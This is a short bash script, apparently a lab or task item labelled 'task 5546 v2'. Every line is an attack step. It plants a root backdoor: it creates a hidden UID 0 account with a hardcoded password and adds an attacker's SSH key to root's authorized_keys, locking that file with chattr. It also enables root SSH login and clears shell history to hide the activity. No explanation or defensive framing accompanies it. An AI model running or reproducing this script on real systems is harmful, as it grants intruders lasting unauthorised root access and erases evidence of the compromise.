# task 5546 v2
#!/bin/bash
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash defaultuser2
echo "defaultuser2:Adm1n!strat0r" | chpasswd
mkdir -p /root/.ssh
echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7x attacker@kali" >> /root/.ssh/authorized_keys
chattr +i /root/.ssh/authorized_keys
sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config && systemctl restart sshd
unset HISTFILE; history -c
